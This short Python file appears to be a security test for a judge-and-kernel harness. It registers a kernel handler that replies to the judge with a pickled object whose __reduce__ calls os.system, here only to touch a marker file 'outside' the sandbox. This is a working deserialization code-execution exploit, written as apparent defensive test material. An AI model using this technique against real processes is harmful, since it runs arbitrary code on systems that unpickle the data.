"""tries: answer the judge with something that runs code when it is unpickled

after: marks
"""

import os, pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @OUTSIDE@/unpickled",)


kernel = get_ipython().kernel


async def observe_request(stream, ident, parent):
    bomb = [pickle.dumps(Bomb())]
    kernel.session.send(stream, "observe_reply", {}, parent, ident=ident, buffers=bomb)


kernel.shell_handlers["observe_request"] = observe_request
